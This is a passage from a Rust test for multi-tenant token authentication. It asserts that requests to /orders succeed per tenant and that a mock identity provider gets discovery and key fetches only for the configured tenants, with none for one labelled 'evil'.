        let token = tenant_token(key, &tenant_token_claims(idp, tenant));
        let reply = send(&tenants.world.app, get("/orders", &token)).await;
        assert_eq!(reply.status, StatusCode::OK, "{tenant}: {}", reply.text);
    }
    // One discovery for each tenant named, none for the others; `allowed`'s keys fetched
    // once, then once more early for the unknown kid of partner's key.
    assert_eq!(idp.requests_for("allowed"), (1, 2, 0));
    assert_eq!(idp.requests_for("partner"), (1, 1, 0));
    assert_eq!(idp.requests_for("evil"), (0, 0, 0));
}
